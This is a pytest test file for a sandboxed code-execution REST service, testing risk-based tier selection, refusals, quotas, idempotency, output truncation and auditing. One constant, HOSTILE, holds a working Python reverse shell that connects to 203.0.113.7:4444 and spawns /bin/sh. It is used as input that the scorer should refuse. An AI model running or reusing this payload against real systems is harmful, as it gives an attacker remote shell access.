"""Code over REST: judged, run at the tier that it needs in a sandbox of its own, and answered with what came of it."""

from __future__ import annotations

import dataclasses
from datetime import timedelta
from typing import TYPE_CHECKING, Any

import pytest
from django.db import connections

from audit.models import Event, RiskPolicy, RiskSuppression
from corekit import clock
from sandboxes import actions, executionrows, executions
from sandboxes.models import Execution, Sandbox
from sandboxes.states import SandboxState
from tenants import actions as tenant_actions
from tests.api.gateway_double import NEVER, STARTED, GatewayDouble, ended, error, wrote
from tests.api.rest import Rest, problem
from tests.factories import OPERATOR
from tests.sandboxes.fixtures import assert_counters_equal_reality, at_once, used

if TYPE_CHECKING:
    from collections.abc import Iterator

    from sandboxes.models import Template
    from tests.api.rest import Operator
    from tests.sandboxes.fixtures import Caller
    from tests.sandboxes.node_double import NodeDouble

pytestmark = pytest.mark.django_db(transaction=True)

KEY: dict[str, Any] = {"Idempotency-Key": "job-7"}
PURE = "print(sum(range(10)))"
CHILD = "import subprocess\nprint(subprocess.run(['git', 'status'], capture_output=True).stdout)"
HOSTILE = "import os, pty, socket\ns = socket.create_connection(('203.0.113.7', 4444))\npty.spawn('/bin/sh')"


@pytest.fixture(autouse=True)
def gateway(node: NodeDouble, base: Template, settings: Any) -> Iterator[GatewayDouble]:
    """A gateway double where the settings say, and a node that offers two tiers."""
    node.tiers = ["process", "container"]
    actions.register_build(actor=OPERATOR, name="base-process", build_id="b-1", tier="process", profile="hardened")
    double = GatewayDouble([STARTED, wrote("stdout", b"45\n"), ended()]).listen()
    settings.GATEHOUSE = dataclasses.replace(settings.GATEHOUSE, port=double.port)
    yield double
    double.close()


def run(rest: Rest, code: str = PURE, **more: Any) -> dict[str, Any]:
    made: dict[str, Any] = rest.post("executions", {"code": code, **more}, status=201)
    return made


def nothing_is_left(alice: Caller, node: NodeDouble) -> None:
    assert node.running() == []
    assert used(alice.tenant) == 0
    assert_counters_equal_reality(alice.tenant, node)


def codes() -> list[str]:
    return list(Event.objects.filter(object_type="execution").order_by("at", "id").values_list("code", flat=True))


def test_code_runs_in_a_sandbox_of_its_own_and_its_output_comes_back(
    rest: Rest, alice: Caller, node: NodeDouble, gateway: GatewayDouble
) -> None:
    seen: dict[str, Any] = {}
    gateway.meanwhile = lambda: seen.update(sandbox=node.running()[0])

    made = run(rest, timeout_s=7, env={"TOKEN": "very-secret"})

    assert (made["state"], made["exit_code"], made["stdout"], made["stderr"]) == ("completed", 0, "45\n", "")
    assert (made["truncated"], made["reason"], made["timeout_s"], made["language"]) == (False, "", 7, "python")
    assert made["duration_ms"] >= 0
    assert (made["tenant"], made["created_by"]) == (alice.tenant.pk.hex, alice.key.pk)
    guest = seen["sandbox"]
    assert made["sandbox_id"] == guest.id
    assert (guest.spec["tier"], guest.spec["env"], guest.spec["ttl_ms"]) == (
        "process",
        {"TOKEN": "very-secret"},
        22_000,
    )
    assert (guest.spec["ingress"]["public"], guest.spec["on_timeout"]) == (False, "kill")
    [call] = gateway.calls
    assert call.command == ["python3", "-c", PURE]
    assert call.headers["E2b-Sandbox-Id"] == guest.id
    assert call.headers["X-Access-Token"].startswith(f"gh_{alice.key.pk}_")
    assert call.headers["Connect-Timeout-Ms"] == "7000"
    sandbox = Sandbox.everywhere().get()
    assert (sandbox.state, sandbox.end_reason, sandbox.metadata) == ("ended", "killed", {"execution": made["id"]})
    nothing_is_left(alice, node)


def test_the_risk_stands_beside_what_came_of_it(rest: Rest) -> None:
    made = run(rest, CHILD)

    risk = made["risk"]
    assert (made["tier"], made["floor"], made["requested_tier"]) == ("container", "container", None)
    assert made["floor_reason"].startswith("The code demands container (L2): ")
    assert (risk["tier"], risk["seed_v1"]) == ("L2", {"score": 30, "tier": "L2"})
    assert risk["score"] > 0
    assert risk["ruleset"].startswith("gatehouse-v1:")
    assert risk["unassessable"] is None
    assert {"rule", "weight", "tier", "message", "span"} <= set(risk["findings"][0])


def test_what_happened_is_in_the_audit_and_the_code_is_not(rest: Rest, alice: Caller) -> None:
    made = run(rest, "print('very-' 'private')", env={"TOKEN": "very-secret"})

    started, finished = Event.objects.filter(object_type="execution", object_id=made["id"]).order_by("at", "id")
    assert (started.code, started.actor_id, started.outcome) == ("execution.started", alice.key.pk, "ok")
    assert started.args_hash
    assert (started.details["tier"], started.details["language"]) == ("process", "python")
    assert (finished.code, finished.details["state"], finished.details["exit_code"]) == (
        *("execution.ended", "completed"),
        0,
    )
    assert finished.details["sandbox"] == made["sandbox_id"]
    kept = [*Event.objects.values(), *Execution.everywhere().values(), *Sandbox.everywhere().values()]
    assert "very-secret" not in str(kept)
    assert "'private'" not in str(kept)


def test_bash_runs_in_bash(rest: Rest, gateway: GatewayDouble) -> None:
    made = run(rest, "echo 45", language="bash")

    assert made["language"] == "bash"
    assert gateway.calls[0].command == ["bash", "-c", "echo 45"]


def test_every_character_of_the_code_arrives(rest: Rest, gateway: GatewayDouble) -> None:
    code = "  \n# grün \U0001f600\r\nprint(1)\n\n"
    run(rest, code)
    assert gateway.calls[0].command[2] == code


def test_what_a_database_refuses_is_in_no_row(rest: Rest) -> None:
    made = run(rest, "print(open('/etc/\\0os-\\ud800release').read())")

    assert made["state"] == "completed"
    assert "\x00" not in str(Execution.everywhere().values())
    assert str(Execution.everywhere().values()).encode()


def test_code_that_needs_nothing_runs_at_the_weakest_tier_of_the_host(rest: Rest, node: NodeDouble) -> None:
    made = run(rest)
    assert (made["floor"], made["tier"], made["template"]) == ("language", "process", "base-process")
    assert made["floor_reason"].endswith("The weakest tier of this host is process (L1).")

    node.tiers = ["container"]
    made = run(rest)
    assert (made["floor"], made["tier"], made["template"]) == ("language", "container", "base")


def test_a_stronger_tier_may_be_asked_for_by_name_or_level(rest: Rest) -> None:
    for asked in ("container", "L2"):
        made = run(rest, tier=asked)
        assert (made["tier"], made["requested_tier"], made["floor"]) == ("container", "container", "language")
        assert made["floor_reason"] == "The tier container (L2) was asked for."


def test_a_request_below_the_floor_is_raised_and_the_answer_says_why(rest: Rest) -> None:
    made = run(rest, CHILD, tier="L1")

    assert (made["requested_tier"], made["floor"], made["tier"]) == ("process", "container", "container")
    assert made["floor_reason"].startswith("Asked for process (L1) and raised. The code demands container (L2): ")


def test_the_tenants_minimum_raises_it(rest: Rest, alice: Caller) -> None:
    tenant_actions.set_limit_range(actor=OPERATOR, tenant=alice.tenant, min_tier="container")

    made = run(rest, tier="process")

    assert (made["tier"], made["floor"], made["template"]) == ("container", "language", "base")
    assert made["floor_reason"] == "Asked for process (L1) and raised. The tenant demands at least container (L2)."


def test_the_templates_minimum_raises_it(rest: Rest) -> None:
    made = run(rest, template="base", tier="process")

    assert (made["tier"], made["template"]) == ("container", "base")
    assert made["floor_reason"] == "Asked for process (L1) and raised. The template demands at least container (L2)."


@pytest.mark.parametrize(
    ("body", "level"),
    [
        ({"code": PURE, "tier": "L0"}, "language (L0)"),
        ({"code": PURE, "tier": "microvm"}, "microvm (L3)"),
        ({"code": HOSTILE}, "microvm (L3)"),
        ({"code": HOSTILE, "tier": "process"}, "microvm (L3)"),
    ],
)
def test_a_tier_that_the_host_does_not_offer_is_refused_with_cause_and_fix(
    rest: Rest, alice: Caller, node: NodeDouble, gateway: GatewayDouble, body: dict[str, Any], level: str
) -> None:
    found = problem(rest.call("post", "executions", body))

    assert (found["status"], found["code"], found["field"]) == (409, "tier_unavailable", "tier")
    assert f"does not offer {level}: " in found["detail"]
    assert found["details"]["cause"]
    assert found["details"]["fix"]
    assert (Execution.everywhere().count(), gateway.calls) == (0, [])
    event = Event.objects.get(object_type="execution")
    assert (event.code, event.outcome, event.reason) == ("execution.refused", "refused", "tier_unavailable")
    assert event.details["tier"] == level.split()[0]
    assert event.risk_tier == ("L3" if body["code"] == HOSTILE else "L0")
    nothing_is_left(alice, node)


def test_an_exit_code_is_a_result(rest: Rest, gateway: GatewayDouble) -> None:
    gateway.script = [STARTED, wrote("stderr", b"Traceback \xff\n"), ended(3)]

    made = run(rest)

    assert (made["state"], made["exit_code"], made["stderr"]) == (
        "completed",
        3,
        "Traceback \N{REPLACEMENT CHARACTER}\n",
    )


def test_at_its_time_limit_there_is_what_there_is(
    rest: Rest, alice: Caller, node: NodeDouble, gateway: GatewayDouble
) -> None:
    gateway.script = [STARTED, wrote("stdout", b"half"), error("deadline_exceeded")]

    made = run(rest, timeout_s=1)

    assert (made["state"], made["stdout"], made["exit_code"]) == ("timed_out", "half", None)
    nothing_is_left(alice, node)


def test_output_is_bounded_and_says_so(rest: Rest, gateway: GatewayDouble) -> None:
    block = b"x" * 600_000
    gateway.script = [STARTED, wrote("stdout", block), wrote("stdout", block), wrote("stderr", b"end"), ended()]

    made = run(rest)

    assert (len(made["stdout"]), made["stderr"], made["truncated"]) == (1024 * 1024, "end", True)


@pytest.mark.parametrize(
    ("script", "reason"),
    [
        ([STARTED, NEVER], "The sandbox ended before the command did."),
        ([STARTED, error("unavailable")], "The sandbox did not run the command: it is unavailable"),
        ([{"event": {"data": {"stdout": 7}}}], "The connection to the sandbox broke."),
    ],
)
def test_what_could_not_be_run_to_its_end_failed(
    rest: Rest, alice: Caller, node: NodeDouble, gateway: GatewayDouble, script: list[Any], reason: str
) -> None:
    gateway.script = script

    made = run(rest)

    assert (made["state"], made["reason"], made["exit_code"], made["stdout"]) == ("failed", reason, None, None)
    assert codes() == ["execution.started", "execution.ended"]
    nothing_is_left(alice, node)


def test_what_the_gateway_refuses_failed(rest: Rest, alice: Caller, node: NodeDouble, gateway: GatewayDouble) -> None:
    gateway.status = 503

    made = run(rest)

    assert made["state"] == "failed"
    assert made["reason"].startswith("The gateway refused the command (503)")
    nothing_is_left(alice, node)


def test_the_same_request_with_the_same_key_runs_once(rest: Rest, gateway: GatewayDouble) -> None:
    first, second = (rest.call("post", "executions", {"code": PURE}, **KEY).json() for _ in range(2))

    assert first == second
    assert (len(gateway.calls), Execution.everywhere().count()) == (1, 1)
    assert rest.refused("post", "executions", {"code": CHILD}, **KEY)[:2] == (*(409, "idempotency_request_mismatch"),)


def test_the_same_request_while_the_first_one_runs(rest: Rest, gateway: GatewayDouble) -> None:
    seen: dict[str, Any] = {}

    def again() -> None:
        gateway.meanwhile = None
        seen["second"] = rest.call("post", "executions", {"code": PURE}, **KEY).json()
        connections.close_all()

    gateway.meanwhile = again
    rest.call("post", "executions", {"code": PURE}, **KEY)

    assert seen["second"]["code"] == "idempotency_in_progress"
    assert len(gateway.calls) == 1


def test_the_same_request_from_many_at_the_same_moment_runs_once(alice: Caller, gateway: GatewayDouble) -> None:
    def ask(_: int) -> tuple[int, str]:
        answer = Rest(alice.secret).call("post", "executions", {"code": PURE}, **KEY)
        return answer.status_code, answer.json().get("code", "")

    answers = set(at_once(8, ask, threads=8))

    assert (201, "") in answers
    assert answers <= {(201, ""), (409, "idempotency_in_progress")}
    assert (len(gateway.calls), Execution.everywhere().count(), used(alice.tenant)) == (1, 1, 0)


def test_a_full_quota_refuses_and_the_key_may_be_used_again(rest: Rest, alice: Caller, gateway: GatewayDouble) -> None:
    tenant_actions.set_quota(actor=OPERATOR, tenant=alice.tenant, max_sandboxes=0)
    refused = rest.refused("post", "executions", {"code": PURE}, **KEY)

    assert refused[:2] == (429, "quota_exceeded")
    row = Execution.everywhere().get()
    assert (row.state, row.sandbox_id) == ("failed", "")
    assert row.reason.startswith("The quota allows 0 sandboxes")
    assert gateway.calls == []

    tenant_actions.set_quota(actor=OPERATOR, tenant=alice.tenant, max_sandboxes=1)
    again = rest.call("post", "executions", {"code": PURE}, **KEY)
    assert (again.status_code, again.json()["state"]) == (201, "completed")


def test_code_above_the_tenants_threshold_is_refused_by_name(
    rest: Rest, alice: Caller, node: NodeDouble, gateway: GatewayDouble
) -> None:
    RiskPolicy.objects.create(tenant_id=alice.tenant.pk, refuse_at=75)

    found = problem(rest.call("post", "executions", {"code": HOSTILE}))

    assert (found["status"], found["code"]) == (403, "code_refused")
    assert found["details"]["threshold"] == 75
    assert found["details"]["score"] >= 75
    assert found["details"]["rules"]
    assert found["details"]["rules"][0] in found["detail"]
    event = Event.objects.get(code="execution.refused")
    assert (event.outcome, event.reason, event.risk_score) == ("refused", "score", found["details"]["score"])
    assert (Execution.everywhere().count(), gateway.calls) == (0, [])
    nothing_is_left(alice, node)
    assert run(rest)["state"] == "completed"


def test_rules_that_the_tenant_muted_do_not_refuse_but_still_raise_the_tier(rest: Rest, alice: Caller) -> None:
    RiskPolicy.objects.create(tenant_id=alice.tenant.pk, refuse_at=1)
    rules = problem(rest.call("post", "executions", {"code": CHILD}))["details"]["rules"]
    for rule in rules:
        RiskSuppression.objects.create(tenant_id=alice.tenant.pk, rule=rule, until=clock.now() + timedelta(days=1))

    made = run(rest, CHILD)

    assert (made["tier"], made["floor"]) == ("container", "container")
    assert {finding["rule"] for finding in made["risk"]["findings"]} == set(rules)
    RiskSuppression.objects.update(until=clock.now() - timedelta(seconds=1))
    assert rest.refused("post", "executions", {"code": CHILD})[:2] == (403, "code_refused")


def test_code_that_nobody_can_judge_needs_what_the_tenant_says(rest: Rest, alice: Caller) -> None:
    unreadable = "print 'hello'\nexec 'import os'"
    made = run(rest, unreadable)
    assert made["tier"] == "container"
    assert made["risk"]["unassessable"]

    RiskPolicy.objects.create(tenant_id=alice.tenant.pk, unassessable_tier="L3")
    assert rest.refused("post", "executions", {"code": unreadable})[:2] == (409, "tier_unavailable")


@pytest.mark.parametrize(
    ("body", "field"),
    [
        ({}, "code"),
        ({"code": ""}, "code"),
        ({"code": 7}, "code"),
        ({"code": "print(1)\x00"}, "code"),
        ({"code": "#" * 100_001}, "code"),
        ({"code": "#" + "ü" * 60_000}, "code"),
        ({"code": PURE, "language": "perl"}, "language"),
        ({"code": PURE, "tier": "L4"}, "tier"),
        ({"code": PURE, "timeout_s": 0}, "timeout_s"),
        ({"code": PURE, "timeout_s": 301}, "timeout_s"),
        ({"code": PURE, "timeout_s": "30"}, "timeout_s"),
        ({"code": PURE, "network": "open"}, "network"),
        ({"code": PURE, "env": {"1": "x"}}, "env"),
        ({"code": PURE, "risk_level": 0}, "risk_level"),
    ],
)
def test_a_request_that_is_none_names_its_field(
    rest: Rest, gateway: GatewayDouble, body: dict[str, Any], field: str
) -> None:
    assert rest.refused("post", "executions", body) == (400, "invalid_input", field)
    assert (Execution.everywhere().count(), gateway.calls) == (0, [])


def test_networks_of_later_versions_are_refused_by_name(rest: Rest) -> None:
    assert run(rest, network="isolated")["state"] == "completed"
    for name in ("restricted", "proxied"):
        assert rest.refused("post", "executions", {"code": PURE, "network": name}) == (
            501,
            "not_implemented",
            "network",
        )


def test_longer_than_the_tenants_longest_lifetime(rest: Rest, alice: Caller) -> None:
    tenant_actions.set_quota(actor=OPERATOR, tenant=alice.tenant, max_lifetime_s=60)

    assert rest.refused("post", "executions", {"code": PURE, "timeout_s": 50}) == (400, "invalid_input", "timeout_s")
    assert run(rest, timeout_s=45)["state"] == "completed"


def test_an_unknown_template(rest: Rest) -> None:
    assert rest.refused("post", "executions", {"code": PURE, "template": "nothing"})[:2] == (404, "not_found")
    assert Execution.everywhere().count() == 0


def test_who_may_not_run_code(vera: Caller, olga: Operator, gateway: GatewayDouble) -> None:
    assert Rest(vera.secret).refused("post", "executions", {"code": PURE})[:2] == (403, "forbidden")
    assert olga.refused("post", "executions", {"code": PURE})[:2] == (403, "forbidden")
    assert (Execution.everywhere().count(), gateway.calls) == (0, [])


def test_more_than_web_can_hold_are_asked_to_come_again(rest: Rest, gateway: GatewayDouble) -> None:
    for _ in range(executions.MOST_AT_ONCE):
        assert executions._places.acquire(blocking=False)
    try:
        answer = rest.call("post", "executions", {"code": PURE})
    finally:
        for _ in range(executions.MOST_AT_ONCE):
            executions._places.release()

    assert (answer.status_code, answer["Retry-After"]) == (503, "2")
    assert gateway.calls == []
    assert run(rest)["state"] == "completed"


def test_executions_are_listed_newest_first_without_their_output(rest: Rest, mallorys_rest: Rest) -> None:
    first, second = run(rest), run(rest, CHILD)

    listed = rest.get("executions")["items"]
    assert [one["id"] for one in listed] == [second["id"], first["id"]]
    assert "stdout" not in listed[0]
    assert rest.get("executions?state=failed")["items"] == []
    assert rest.get(f"executions/{first['id']}") == first
    assert mallorys_rest.get("executions")["items"] == []


def test_output_is_for_those_who_may_use_sandboxes(rest: Rest, vera: Caller, olga: Operator) -> None:
    made = run(rest)

    for reader in (Rest(vera.secret), olga):
        shown = reader.get(f"executions/{made['id']}")
        assert (shown["stdout"], shown["stderr"], shown["exit_code"]) == (None, None, 0)


def test_output_is_forgotten_after_a_day(rest: Rest) -> None:
    made = run(rest)
    assert executionrows.forget_output() == 0

    Execution.everywhere().update(output_until=clock.now() - timedelta(seconds=1))
    assert executionrows.forget_output() == 1
    shown = rest.get(f"executions/{made['id']}")
    assert (shown["state"], shown["stdout"], shown["exit_code"]) == ("completed", None, 0)
    assert Execution.everywhere().get().stdout == ""


def test_a_row_that_nobody_works_on_is_ended_and_its_sandbox_too(
    alice: Caller, node: NodeDouble, gateway: GatewayDouble, monkeypatch: pytest.MonkeyPatch
) -> None:
    class Killed(BaseException):
        """What a process leaves behind when it dies here."""

    def die(*_: Any, **__: Any) -> None:
        raise Killed

    wish = executions.Wish(PURE, idempotency_key="job-7")
    with monkeypatch.context() as patched:
        patched.setattr(executionrows, "run_in", die)
        patched.setattr(executionrows, "drop_sandbox", die)
        with pytest.raises(Killed):
            executions.execute(actor=alice.actor, wish=wish)
    assert len(node.running()) == 1
    assert executionrows.end_overdue() == 0

    Execution.everywhere().update(until=clock.now() - timedelta(seconds=1))
    assert executionrows.end_overdue() == 1

    row = Execution.everywhere().get()
    assert (row.state, row.reason, row.sandbox_id) == ("failed", "Whoever worked on it is gone.", "")
    assert codes() == ["execution.started", "execution.ended"]
    assert Sandbox.everywhere().get().state == SandboxState.ENDED
    nothing_is_left(alice, node)
    assert executionrows.end_overdue() == 0
    assert executions.execute(actor=alice.actor, wish=wish).state == "completed"


def test_a_row_that_was_ended_meanwhile_stays_as_it_is(
    rest: Rest, alice: Caller, node: NodeDouble, gateway: GatewayDouble
) -> None:
    def overdue() -> None:
        Execution.everywhere().update(until=clock.now() - timedelta(seconds=1))
        executionrows.end_overdue()
        connections.close_all()

    gateway.meanwhile = overdue

    made = run(rest)

    assert (made["state"], made["reason"], made["stdout"]) == ("failed", "Whoever worked on it is gone.", None)
    assert codes() == ["execution.started", "execution.ended"]
    nothing_is_left(alice, node)
